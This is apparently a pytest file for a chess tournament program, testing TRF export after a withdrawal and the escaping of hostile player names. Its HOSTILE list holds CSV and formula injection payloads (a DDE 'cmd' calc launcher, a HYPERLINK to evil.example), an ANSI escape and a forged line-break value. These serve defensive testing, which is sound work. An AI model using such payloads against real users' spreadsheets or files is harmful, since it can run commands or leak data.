"""Output safety and TRF robustness (issue 13: defects e, u and the TRF parts of v).

Sources: FIDE's rule for withdrawals from a round robin (General Regulations
for Competitions 6.6; docs/standings.md), the TRF16 player-line columns
(FIDE Handbook C.04 Annex 2; docs/trf.md), and OWASP's "CSV Injection"
guidance (cells starting ``= + - @``, tab or CR are prefixed with ``'``).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.conftest import Run

#: The README's workflow (README.md, "Running an event"): Finn (6) leaves after
#: round 2 having completed 2 of his 5 games (< 50%): his results are annulled.
PLAYERS = "name,rating\nAnna,2100\nBen,2050\nCara,1990\nDan,1950\nEve,1900\nFinn,1850\n"
WORKFLOW = [
    ("1", "1", "1-0"),
    ("1", "2", "1/2"),
    ("1", "3", "0-1"),
    ("2", "1", "1/2"),
    ("2", "2", "1-0"),
    ("2", "3", "1-0"),
    "withdraw",
    ("3", "2", "1-0"),
    ("3", "3", "1/2"),
    ("4", "2", "1-0"),
    ("4", "3", "1-0"),
    ("5", "2", "0-1"),
    ("5", "3", "1/2"),
]


def _club(cli: Callable[..., Run], tmp_path: Path, name: str = "Club championship") -> Path:
    players = tmp_path / "players.csv"
    players.write_text(PLAYERS, encoding="utf-8")
    club = tmp_path / "club.json"
    run = cli(
        "new", str(club), "--format", "round-robin", "--players", str(players),
        "--tiebreaks", "SB,DE,KS", "--by", "rating", "--name", name, "--start", "2026-09-01",
    )  # fmt: skip
    assert run.code == 0, run.err
    for step in WORKFLOW:
        run = (
            cli("withdraw", str(club), "Finn")
            if step == "withdraw"
            else cli("result", str(club), *step)
        )
        assert run.code == 0, run.err
    return club


def _standings(cli: Callable[..., Run], path: Path) -> list[tuple[Any, ...]]:
    run = cli("standings", str(path), "--json")
    assert run.code == 0, run.err
    rows = json.loads(run.out)["rows"]
    return [
        (r["rank"], r["pairing_number"], r["score"], r["annulled"], r["tiebreaks"]) for r in rows
    ]


# -- e: TRF export after an annulment --------------------------------------------------


def test_e_trf_points_are_the_standings_after_an_annulment(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    """The points column is caddy's standings (Finn's games count for nobody),
    the games stay as played (they are rated), Finn's later rounds are ``-``."""
    club = _club(cli, tmp_path)
    trf = tmp_path / "club.trf"
    assert cli("export", str(club), "--to", "trf", "-o", str(trf)).code == 0
    lines = [line for line in trf.read_text().splitlines() if line.startswith("001")]
    points = {int(line[4:8]): line[80:84] for line in lines}
    # docs: README standings: Anna, Eve, Ben 2.5; Dan 1.5; Cara 1; Finn annulled (0)
    assert points == {1: " 2.5", 2: " 2.5", 3: " 1.0", 4: " 1.5", 5: " 2.5", 6: " 0.0"}
    assert lines[5][91:] == "   1 b 0     4 w =     2 b -     5 w -     3 b -"


def test_e_event_trf_event_standings_equal(cli: Callable[..., Run], tmp_path: Path) -> None:
    club = _club(cli, tmp_path)
    trf = tmp_path / "club.trf"
    back = tmp_path / "back.json"
    assert cli("export", str(club), "--to", "trf", "-o", str(trf)).code == 0
    run = cli("import", str(trf), "-o", str(back))
    assert run.code == 0 and "warning" not in run.err, run.err
    expected = _standings(cli, club)
    assert expected[-1][1:4] == (6, 0.0, True)
    assert _standings(cli, trf) == expected
    assert _standings(cli, back) == expected
    check = cli("check", str(trf))
    assert check.code == 0 and check.err == "", check.err
    # and the round trip is stable: the re-imported event exports the same file
    again = cli("export", str(back), "--to", "trf")
    assert again.out == trf.read_text()


def test_e_face_value_points_are_not_an_annulment(cli: Callable[..., Run], tmp_path: Path) -> None:
    """A file whose points count the games (another program's view) is read at face value."""
    club = _club(cli, tmp_path)
    text = cli("export", str(club), "--to", "trf").out
    face = {1: " 3.5", 2: " 3.5", 3: " 2.0", 4: " 2.0", 5: " 3.5", 6: " 0.5"}
    lines = [
        line[:80] + face[int(line[4:8])] + line[84:] if line.startswith("001") else line
        for line in text.splitlines()
    ]
    trf = tmp_path / "face.trf"
    trf.write_text("\n".join(lines) + "\n")
    rows = _standings(cli, trf)
    assert [r[2] for r in sorted(rows, key=lambda r: r[1])] == [3.5, 3.5, 2.0, 2.0, 3.5, 0.5]
    assert not any(r[3] for r in rows)


# -- u: hostile text --------------------------------------------------------------------

FORGED_NAME = "Club\n001   99 Forged Title Line"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "Esc\x1b[31mRed",
    "Pipe|<b>x</b>",
    "L" * 10_000,
]


def _hostile(cli: Callable[..., Run], tmp_path: Path) -> Path:
    players = tmp_path / "hostile.csv"
    rows = [
        "Anna,2100",
        *(f'"{name.replace(chr(34), chr(34) * 2)}",{2000 - k}' for k, name in enumerate(HOSTILE)),
    ]
    players.write_text("name,rating\n" + "\n".join(rows) + "\n", encoding="utf-8")
    event = tmp_path / "hostile.json"
    run = cli(
        "new", str(event), "--format", "round-robin", "--players", str(players),
        "--by", "rating", "--name", FORGED_NAME,
    )  # fmt: skip
    assert run.code == 0, run.err
    for board in ("1", "2", "3", "4"):
        assert cli("result", str(event), "1", board, "1-0").code == 0
    return event


def test_u_trf_export_holds_no_forged_line(cli: Callable[..., Run], tmp_path: Path) -> None:
    """TRF16 (C.04 Annex 2): 012 is one line; every 001 line keeps its columns."""
    event = _hostile(cli, tmp_path)
    run = cli("export", str(event), "--to", "trf")
    assert run.code == 0, run.err
    lines = run.out.splitlines()
    assert lines[0] == "012 Club 001   99 Forged Title Line"
    players = [line for line in lines if line.startswith("001")]
    assert [int(line[4:8]) for line in players] == list(range(1, 9))
    assert all(line[89:91] == "  " and line[91:] for line in players)
    assert "\x1b" not in run.out
    assert "caddy: warning: control characters (line breaks...) written as spaces" in run.err
    # and caddy reads its own export back without a problem
    trf = tmp_path / "hostile.trf"
    trf.write_text(run.out)
    assert cli("check", str(trf)).code == 0


def test_u_text_output_escapes_controls_and_caps_widths(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    event = _hostile(cli, tmp_path)
    run = cli("standings", str(event))
    assert run.code == 0, run.err
    lines = run.out.splitlines()
    assert lines[0].startswith("Club\\n001   99 Forged Title Line: ")
    assert "\x1b" not in run.out and "Esc\\x1b[31mRed" in run.out
    assert max(map(len, lines[1:])) < 100
    assert "L" * 39 + "…" in run.out and "L" * 40 not in run.out


def test_u_csv_neutralises_formulas_not_numbers(cli: Callable[..., Run], tmp_path: Path) -> None:
    """OWASP "CSV Injection": cells starting = + - @ tab CR get a leading '."""
    import csv
    import io

    event = _hostile(cli, tmp_path)
    run = cli("standings", str(event), "--output", "csv")
    rows = list(csv.reader(io.StringIO(run.out)))
    names = {row[2] for row in rows[1:]}
    assert "'" + HOSTILE[0] in names and "'" + HOSTILE[1] in names
    assert "'@SUM(1+1)" in names and "'-2+3" in names
    assert "Esc [31mRed" in names
    for row in rows[1:]:  # numbers caddy writes stay numbers
        assert all(cell[:1] != "'" for cell in (row[0], row[1], *row[3:]))
    from caddy_plugins.renderers.csv_table import safe_cell

    assert [safe_cell(t) for t in ("-1", "+0.5", "2.5", "-", "+", "\tx", " =1")] == [
        "-1", "+0.5", "2.5", "-", "+", "' x", "' =1",
    ]  # fmt: skip


def test_u_markdown_rows_keep_their_cells(cli: Callable[..., Run], tmp_path: Path) -> None:
    import re

    event = _hostile(cli, tmp_path)
    out = cli("standings", str(event), "--output", "markdown").out
    lines = out.splitlines()
    assert lines[0] == "# Club 001   99 Forged Title Line"
    rows = [line for line in lines if line.startswith("| ")]
    assert len(rows) == 9 and all(len(re.findall(r"(?<!\\)\|", row)) == 8 for row in rows)
    assert "Pipe\\|\\<b\\>x\\</b\\>" in out and "\x1b" not in out


def test_u_html_stays_escaped(cli: Callable[..., Run], tmp_path: Path) -> None:
    event = _hostile(cli, tmp_path)
    out = cli("standings", str(event), "--output", "html").out
    assert "Pipe|&lt;b&gt;x&lt;/b&gt;" in out and "<b>x" not in out
